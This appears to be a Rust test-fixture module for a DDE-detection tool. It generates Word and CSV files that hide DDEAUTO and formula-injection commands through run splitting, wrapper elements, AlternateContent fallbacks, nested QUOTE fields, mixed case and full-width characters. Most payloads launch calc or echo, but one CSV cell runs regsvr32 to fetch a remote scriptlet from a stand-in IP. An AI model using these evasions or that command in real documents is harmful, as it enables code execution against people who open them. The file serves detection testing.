//! Evasions: documents that hide a DDE command from naive scanners in ways
//! Office still runs (see the commands in [`crate::catalog::CATALOG`]).
//!
//! Word: all field parts in one run; runs inside `w:smartTag`, `w:ins`,
//! `w:hyperlink`, inline `w:sdt` and `w:customXml`; the same text box in
//! both branches of `mc:AlternateContent` (and a field only in the
//! Fallback); the ISO Strict namespace; a field with no end marker after a
//! complete harmless one; QUOTE codes split across runs and a QUOTE nested
//! in a QUOTE; a mixed-case keyword. CSV: full-width `＝｜！`, leading
//! quotes, a reference inside an expression, the MSEXCEL path traversal.

use crate::text::table;
use crate::word::{
    self, A4_SECTION, FLD_BEGIN, FLD_END, FLD_SEPARATE, NAMESPACES, XML_DECL, fld_char_field,
    instr_run, p, run, word_body,
};

/// The field code of most Word evasions (backslashes doubled, as stored).
const CALC: &str = r#"DDEAUTO c:\\windows\\system32\\cmd.exe "/c calc.exe""#;

/// Every part of a field (begin, instruction, separator, result, end) in one `w:r`.
pub fn one_run() -> Vec<u8> {
    let field = format!(
        "<w:r><w:fldChar w:fldCharType=\"begin\"/><w:instrText xml:space=\"preserve\">{}</w:instrText>\
         <w:fldChar w:fldCharType=\"separate\"/><w:t>Update</w:t><w:fldChar w:fldCharType=\"end\"/></w:r>",
        crate::ooxml::escape_text(CALC)
    );
    let body = p(&run("Invoice attached.")) + &p(&field);
    word::docx(&[("word/document.xml", word_body(&body))])
}

/// The wrappers Word allows around runs: (name, opening tag, closing tag).
const WRAPPERS: &[(&str, &str, &str)] = &[
    (
        "smartTag",
        "<w:smartTag w:uri=\"urn:schemas-microsoft-com:office:smarttags\" w:element=\"place\">",
        "</w:smartTag>",
    ),
    (
        "ins",
        "<w:ins w:id=\"1\" w:author=\"Accounts\" w:date=\"2017-10-09T08:00:00Z\">",
        "</w:ins>",
    ),
    (
        "hyperlink",
        "<w:hyperlink w:anchor=\"top\">",
        "</w:hyperlink>",
    ),
    (
        "sdt",
        "<w:sdt><w:sdtPr><w:alias w:val=\"Amount\"/><w:id w:val=\"-1\"/></w:sdtPr><w:sdtContent>",
        "</w:sdtContent></w:sdt>",
    ),
    (
        "customXml",
        "<w:customXml w:uri=\"urn:example:invoice\" w:element=\"total\">",
        "</w:customXml>",
    ),
];

/// One field inside each wrapper, and one field whose runs are spread over
/// all of them (begin in the smart tag, instruction pieces in the insertion
/// and the hyperlink, separator in the content control, end in the custom
/// XML element).
pub fn wrappers() -> Vec<u8> {
    let mut body = String::new();
    for (name, open, close) in WRAPPERS {
        let field = fld_char_field(&[&format!(r#"DDEAUTO cmd.exe "/c echo {name}""#)], name);
        body.push_str(&p(&format!("{open}{field}{close}")));
    }
    let wrap = |i: usize, inner: &str| {
        let (_, open, close) = WRAPPERS[i];
        format!("{open}{inner}{close}")
    };
    let spanning = [
        wrap(0, FLD_BEGIN),
        wrap(1, &instr_run("DDEAUTO cmd.exe ")),
        wrap(2, &instr_run(r#""/c echo spanning""#)),
        wrap(3, &(FLD_SEPARATE.to_owned() + &run("x"))),
        wrap(4, FLD_END),
    ]
    .concat();
    body.push_str(&p(&spanning));
    word::docx(&[("word/document.xml", word_body(&body))])
}

/// A text box as Word writes it: a DrawingML shape in `mc:Choice` and the
/// same text in a VML shape in `mc:Fallback`.
fn text_box(choice: &str, fallback: &str) -> String {
    format!(
        "<w:r><mc:AlternateContent><mc:Choice Requires=\"wps\"><w:drawing><wp:anchor distT=\"0\" \
         distB=\"0\" distL=\"114300\" distR=\"114300\" simplePos=\"0\" relativeHeight=\"1\" \
         behindDoc=\"0\" locked=\"0\" layoutInCell=\"1\" allowOverlap=\"1\"><wp:simplePos x=\"0\" y=\"0\"/>\
         <wp:extent cx=\"2360930\" cy=\"1404620\"/><wp:docPr id=\"1\" name=\"Text Box 1\"/>\
         <a:graphic xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\">\
         <a:graphicData uri=\"http://schemas.microsoft.com/office/word/2010/wordprocessingShape\">\
         <wps:wsp><wps:txbx><w:txbxContent>{choice}</w:txbxContent></wps:txbx><wps:bodyPr/></wps:wsp>\
         </a:graphicData></a:graphic></wp:anchor></w:drawing></mc:Choice><mc:Fallback><w:pict>\
         <v:shape id=\"Text Box 1\" type=\"#_x0000_t202\" style=\"width:185.9pt;height:110.55pt\">\
         <v:textbox><w:txbxContent>{fallback}</w:txbxContent></v:textbox></v:shape></w:pict>\
         </mc:Fallback></mc:AlternateContent></w:r>"
    )
}

/// A text box whose DDE field Word writes in both branches (reported once),
/// and one whose DDE field is only in the Fallback (reported: older Word
/// reads that branch).
pub fn alternate_content() -> Vec<u8> {
    let calc = p(&fld_char_field(&[CALC], "Update"));
    let fallback_only = p(&fld_char_field(
        &[r#"DDEAUTO cmd.exe "/c echo fallback""#],
        "Update",
    ));
    let body = p(&(run("Please review the box below.") + &text_box(&calc, &calc)))
        + &p(&text_box(&p(&run("Nothing to see")), &fallback_only));
    let document = format!(
        "{XML_DECL}<w:document {NAMESPACES} \
         xmlns:wps=\"http://schemas.microsoft.com/office/word/2010/wordprocessingShape\">\
         <w:body>{body}{A4_SECTION}</w:body></w:document>"
    );
    word::docx(&[("word/document.xml", document)])
}

/// The ISO/IEC 29500 Strict namespaces, as Word writes "Strict Open XML Document".
pub fn strict() -> Vec<u8> {
    let body = p(&run("Strict document"))
        + &p(&fld_char_field(
            &[
                r"DDEAUTO C:\\Windows\\System32\\cmd.exe ",
                r#""/c powershell -nop -c calc.exe""#,
            ],
            "Update",
        ));
    let document = format!(
        "{XML_DECL}<w:document xmlns:w=\"http://purl.oclc.org/ooxml/wordprocessingml/main\" \
         xmlns:r=\"http://purl.oclc.org/ooxml/officeDocument/relationships\" \
         w:conformance=\"strict\"><w:body>{body}</w:body></w:document>"
    );
    let package_rels = crate::ooxml::relationships(&[crate::ooxml::Rel::new(
        "rId1",
        "http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument",
        "word/document.xml",
    )]);
    word::docx(&[
        ("_rels/.rels", package_rels),
        ("word/document.xml", document),
    ])
}

/// A complete harmless PAGE field, then a DDEAUTO field with neither
/// separator nor end marker (Word still runs it).
pub fn unterminated() -> Vec<u8> {
    let body = p(&(run("Page ") + &fld_char_field(&["PAGE"], "1")))
        + &p(&(FLD_BEGIN.to_owned()
            + &instr_run(r#"DDEAUTO c:\\windows\\system32\\cmd.exe "/c echo unterminated""#)));
    word::docx(&[("word/document.xml", word_body(&body))])
}

/// DDEAUTO whose program is a QUOTE field nested in a QUOTE field, the codes
/// split across runs in mid-number: `{QUOTE {QUOTE 57 57} 1|09 100 46 ...}`
/// is `QUOTE 99 109 100 46 101 120 101`, which is `cmd.exe`. The stored
/// results are stale, as after an edit: Word recomputes them.
pub fn quote_split() -> Vec<u8> {
    let field = [
        FLD_BEGIN,
        &instr_run("DDE"),
        &instr_run("AUTO "),
        FLD_BEGIN,
        &instr_run("QUOTE "),
        FLD_BEGIN,
        &instr_run("QUOTE 5"),
        &instr_run("7 57"),
        FLD_SEPARATE,
        &run("42"),
        FLD_END,
        &instr_run(" 1"),
        &instr_run("09 100 4"),
        &instr_run("6 101 120 101"),
        FLD_SEPARATE,
        &run("notepad.exe"),
        FLD_END,
        &instr_run(r#" "/c calc.exe""#),
        FLD_SEPARATE,
        FLD_END,
    ]
    .concat();
    let body = p(&run("Loading...")) + &p(&field);
    word::docx(&[("word/document.xml", word_body(&body))])
}

/// A DDEAUTO keyword in mixed case (`dDeAuTo`): Word matches field types
/// case-insensitively.
pub fn mixed_case() -> Vec<u8> {
    let body = p(&fld_char_field(
        &[r#"dDeAuTo c:\\windows\\system32\\cmd.exe "/c echo mixed""#],
        "x",
    ));
    word::docx(&[("word/document.xml", word_body(&body))])
}

/// Full-width `＝cmd｜'/c calc.exe'！A0`, which Excel folds to ASCII.
pub fn csv_fullwidth() -> Vec<u8> {
    table(&[&["id", "note"], &["1", "＝cmd｜'/c calc.exe'！A0"]], ',').into_bytes()
}

/// `""=cmd|...`: an empty quoted string before the formula, which the CSV
/// reader (like Excel) joins to the cell text.
pub fn csv_leading_quotes() -> Vec<u8> {
    b"id,note\r\n1,\"\"=cmd|'/c calc.exe'!A0\r\n".to_vec()
}

/// The DDE reference at the end of an expression: `=AAAA+BBBB&cmd|...`.
pub fn csv_concat() -> Vec<u8> {
    table(
        &[&["id", "total"], &["1", "=AAAA+BBBB&cmd|'/c calc.exe'!A0"]],
        ',',
    )
    .into_bytes()
}

/// The MSEXCEL path traversal: Excel runs `MSEXCEL\..\..\..\Windows\System32\regsvr32`,
/// that is `\Windows\System32\regsvr32` on its drive.
pub fn csv_msexcel() -> Vec<u8> {
    table(
        &[
            &["id", "value"],
            &[
                "1",
                r"=MSEXCEL|'\..\..\..\Windows\System32\regsvr32 /s /n /u /i:http://198.51.100.4/a.sct scrobj.dll'!''",
            ],
        ],
        ',',
    )
    .into_bytes()
}

/// Negative: `3.14|2!7` looks like a DDE reference to a naive pattern but
/// has no program name (a number cannot be a DDE service).
pub fn csv_number_bar() -> Vec<u8> {
    table(&[&["value", "ratio"], &["=3.14|2!7", "3.14|2!7"]], ',').into_bytes()
}
